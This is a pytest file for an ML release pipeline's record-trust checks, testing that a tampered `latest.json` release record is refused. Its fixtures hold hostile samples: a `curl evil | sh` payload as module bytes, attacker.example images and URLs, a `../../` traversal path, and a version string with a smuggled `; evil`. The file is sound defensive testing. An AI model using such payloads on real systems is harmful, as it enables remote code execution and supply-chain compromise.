"""Nothing read back is trusted: the release record is checked before anything uses it (release_state).

The pipelines' service account can write the bucket, so a training task can rewrite
`releases/<pipeline>/latest.json`. Each case below is one such rewrite (or a corruption) seen by an outside probe:
before, each was passed to `pipeline.retrain`, `schedule.create` and the chain's submit as it was. Storage here is
an in-memory stand-in for the few calls release_state makes; tests/integration/test_record_trust.py drives the
tasks against fake-gcs-server.
"""

from __future__ import annotations

import base64
import copy
import hashlib
import json

import pytest

from cicd_release.artifacts import naming
from cicd_release.core.errors import MissingResourceError, RecordRefused
from cicd_release.core.settings import Settings
from cicd_release.plan import release_state
from cicd_release.plan.release_state import MODULE_FILES, read_record, record_problems, released

BUCKET = "my-project-ml"
REPO = "europe-west4-docker.pkg.dev/my-project/training"
IMAGE = f"{REPO}/cicd-components:0.1.0-0123456789ab"
SETTINGS = Settings(
    project="my-project", region="europe-west4", bucket=BUCKET, image_repo=REPO, request_deadline_seconds=5
)
RECORD = f"gs://{BUCKET}/releases/penguin-cicd/latest.json"


class Blob:
    def __init__(self, data: bytes, generation: int):
        self.data, self.generation, self.size = data, generation, len(data)
        self.md5_hash = base64.b64encode(hashlib.md5(data).digest()).decode()

    def download_as_bytes(self, **_):
        return self.data


class Bucket:
    def __init__(self, client: Storage, name: str):
        self.client, self.name = client, name

    def get_blob(self, name: str, **_):
        self.client.reads.append(f"gs://{self.name}/{name}")
        found = self.client.objects.get(f"gs://{self.name}/{name}")
        return Blob(found, 1) if found is not None else None

    def exists(self, **_):
        return self.name in self.client.buckets


class Storage:
    """What release_state asks storage: objects by URI, and which buckets exist."""

    api_endpoint = "https://storage.stand-in"

    def __init__(self):
        self.objects: dict[str, bytes] = {}
        self.buckets = {BUCKET}
        self.reads: list[str] = []

    def bucket(self, name: str) -> Bucket:
        return Bucket(self, name)

    def put(self, uri: str, data: bytes | str | dict) -> str:
        if isinstance(data, dict):
            data = json.dumps(data)
        self.objects[uri] = data.encode() if isinstance(data, str) else data
        return uri


def compiled(image: str = IMAGE, note: str = "") -> dict:
    return {
        "displayName": "penguin-cicd",
        "pipelineSpec": {
            "pipelineInfo": {"name": "penguin-cicd", "description": note},
            "deploymentSpec": {
                "executors": {
                    "exec-gen": {"container": {"image": image, "command": ["python"]}},
                    "exec-train": {"container": {"image": image, "command": ["python"]}},
                }
            },
        },
    }


def put_spec(storage: Storage, job: dict, bucket: str = BUCKET) -> str:
    name = f"penguin-cicd-0.1.0-{naming.spec_digest(job)[:16]}.json"
    return storage.put(f"gs://{bucket}/specs/{name}", job)


def put_modules(storage: Storage, variant: str = "a") -> dict[str, str]:
    modules = {}
    for parameter, name in MODULE_FILES.items():
        data = f"# {parameter} {variant}\n".encode()
        modules[parameter] = storage.put(
            f"gs://{BUCKET}/modules/{hashlib.sha256(data).hexdigest()}/{name}", data
        )
    return modules


@pytest.fixture
def storage() -> Storage:
    return Storage()


@pytest.fixture
def record(storage: Storage) -> dict:
    """A release as the chain leaves it: a spec running our image, four modules, the record naming them."""
    body = {
        "commit": "a" * 40,
        "versions": {"components": "0.1.0", "pipeline": "0.1.0", "release": "0.1.0", "trainer": "0.1.0"},
        "inputs": {
            "spec": put_spec(storage, compiled()),
            "image": IMAGE,
            "modules": put_modules(storage),
            "data_root": f"gs://{BUCKET}/data/penguins/{'d' * 64}",
            "data_digest": "d" * 64,
            "hyperparameters": '{"learning_rate": 0.01}',
        },
        "run": {"resource_name": "projects/p/locations/europe-west4/pipelineJobs/penguin-cicd-aaaa"},
        "released_at": "2026-01-01T00:00:00Z",
        "trigger": "release",
    }
    storage.put(RECORD, body)
    return body


def refused(storage: Storage, says: str) -> str:
    with pytest.raises(RecordRefused) as caught:
        read_record(SETTINGS, storage)
    message = str(caught.value)
    assert says in message, message
    assert "\n" not in message and len(message) < 900, message
    assert "Nothing was submitted or written" in message and "gcloud storage rm" in message
    return message


def test_a_release_as_the_chain_leaves_it_is_read_and_run(storage, record):
    last = read_record(SETTINGS, storage)
    assert last.exists and last.commit == "a" * 40 and last.inputs == record["inputs"]
    code = released(SETTINGS, storage, last)
    assert (code.spec, code.image, code.modules) == (
        record["inputs"]["spec"],
        IMAGE,
        record["inputs"]["modules"],
    )


def test_a_spec_in_another_bucket_running_another_image_is_refused(storage, record):
    # The probe's attack: the record names a spec elsewhere, whose image is attacker.example/evil:1.
    evil = compiled("attacker.example/evil:1")
    record["inputs"]["spec"] = put_spec(storage, evil, bucket="attacker-bucket")
    record["inputs"]["image"] = "attacker.example/evil:1"
    storage.put(RECORD, record)
    message = refused(storage, "is not a spec of this pipeline in gs://my-project-ml/specs/")
    assert "attacker.example/evil:1 is not an image of the repository" in "; ".join(
        f"{w} {y}" for w, y in record_problems(SETTINGS, storage, record)
    )
    assert not any("attacker-bucket" in uri for uri in storage.reads), message


def test_a_spec_in_our_bucket_that_runs_another_image_is_refused(storage, record):
    record["inputs"]["spec"] = put_spec(storage, compiled("attacker.example/evil:1"))
    storage.put(RECORD, record)
    refused(storage, f"runs attacker.example/evil:1, not the release's image {IMAGE}")


def test_a_spec_whose_bytes_are_not_its_name_is_refused(storage, record):
    storage.put(record["inputs"]["spec"], compiled(note="edited after its upload"))
    refused(storage, "holds a spec whose digest is not the one its name carries")


@pytest.mark.parametrize(
    ("module", "says"),
    [
        ("https://attacker.example/model.py", "is not gs://my-project-ml/modules/<sha256>/model.py"),
        (f"gs://{BUCKET}/modules/{'0' * 64}/model.py", "is not in the bucket"),
        (f"gs://{BUCKET}/modules/{'0' * 64}/../../evil/model.py", "is not gs://my-project-ml/modules/"),
        (f"gs://{BUCKET}/modules/{'0' * 64}/preprocessing.py", "is not gs://my-project-ml/modules/"),
    ],
    ids=["https", "missing", "dot-dot", "another-file"],
)
def test_a_module_that_is_elsewhere_or_missing_is_refused(storage, record, module, says):
    record["inputs"]["modules"]["model_module"] = module
    storage.put(RECORD, record)
    refused(storage, says)


def test_a_module_whose_bytes_are_not_its_name_is_refused(storage, record):
    storage.put(record["inputs"]["modules"]["model_module"], b"import os; os.system('curl evil | sh')\n")
    refused(storage, "holds bytes whose sha256 is not the one its name carries")


@pytest.mark.parametrize(
    ("hyperparameters", "says"),
    [('{"layers": [8]}', "'layers'"), ("[]", "must be a JSON object"), ("[" * 20_000, "nested more than")],
)
def test_hyperparameters_that_break_the_rule_are_refused(storage, record, hyperparameters, says):
    record["inputs"]["hyperparameters"] = hyperparameters
    storage.put(RECORD, record)
    message = refused(storage, "hyperparameters break the rule")
    assert says in message


@pytest.mark.parametrize(
    ("change", "says"),
    [
        (lambda r: r.update(commit="HEAD"), "commit 'HEAD' is not a 40-hex commit"),
        (lambda r: r.update(commit="a" * 39 + "\n"), "is not a 40-hex commit"),
        (lambda r: r.pop("inputs"), "has no inputs object"),
        (lambda r: r["inputs"].update(modules=["gs://x"]), "inputs.modules is not an object"),
        (lambda r: r["inputs"].update(spec=7), "inputs.spec is not text"),
        (lambda r: r.update(versions={"pipeline": "0.1.0 ; evil"}), "not a package's version"),
        (lambda r: r.update(run="x"), "run is not an object"),
        (lambda r: r.update(run_commit="b"), "run_commit 'b' is not a 40-hex commit"),
    ],
    ids=[
        "commit-ref",
        "commit-newline",
        "no-inputs",
        "modules-list",
        "spec-number",
        "version",
        "run",
        "run-commit",
    ],
)
def test_a_record_of_the_wrong_shape_is_refused_before_an_object_is_read(storage, record, change, says):
    change(record)
    storage.put(RECORD, record)
    refused(storage, says)


def test_a_record_that_is_not_an_object_is_refused(storage, record):
    storage.put(RECORD, "[1, 2]")
    refused(storage, "is a JSON list, not an object")


def test_a_missing_spec_is_not_a_refusal_the_plan_compiles_one(storage, record):
    del storage.objects[record["inputs"]["spec"]]
    assert read_record(
        SETTINGS, storage
    ).exists  # complete_plan adds pipeline.compile, retrain says it is gone


def test_a_missing_bucket_is_not_no_release(storage):
    storage.buckets.clear()
    with pytest.raises(MissingResourceError, match="Bucket gs://my-project-ml does not exist"):
        read_record(SETTINGS, storage)
    storage.buckets.add(BUCKET)
    assert not read_record(SETTINGS, storage).exists


def test_before_the_first_record_the_newest_release_in_the_bucket_is_checked_too(storage, monkeypatch):
    spec = put_spec(storage, compiled("attacker.example/evil:1"))
    modules = put_modules(storage)

    def newest(client, bucket, prefix, deadline, keep):
        found = [u for u in storage.objects if u.startswith(f"gs://{bucket}/{prefix}")]
        return {
            u.rsplit("/", 1)[1]: (0, u.removeprefix(f"gs://{bucket}/"))
            for u in found
            if keep(u.rsplit("/", 1)[1])
        }

    monkeypatch.setattr(release_state, "_newest", newest)
    with pytest.raises(RecordRefused, match="runs attacker.example/evil:1, not the repository"):
        released(SETTINGS, storage)
    storage.objects.pop(spec)
    good = put_spec(storage, compiled())
    code = released(SETTINGS, storage)
    assert (code.spec, code.image, code.modules) == (good, IMAGE, modules)


def test_the_record_needs_the_repository_its_image_is_checked_against(storage, record):
    from cicd_release.core.settings import SettingsError

    with pytest.raises(SettingsError, match="cicd.image_repo is missing"):
        read_record(SETTINGS.model_copy(update={"image_repo": ""}), storage)


def test_a_copy_of_the_record_is_not_changed_by_reading_it(storage, record):
    before = copy.deepcopy(record)
    read_record(SETTINGS, storage)
    assert json.loads(storage.objects[RECORD]) == before


def test_a_record_from_before_the_repository_moved_says_how_to_move_on(storage, record):
    moved = SETTINGS.model_copy(update={"image_repo": "europe-west4-docker.pkg.dev/my-project/moved"})
    with pytest.raises(RecordRefused) as caught:
        read_record(moved, storage)
    assert "If cicd.image_repo was moved on purpose, delete the record" in str(caught.value)
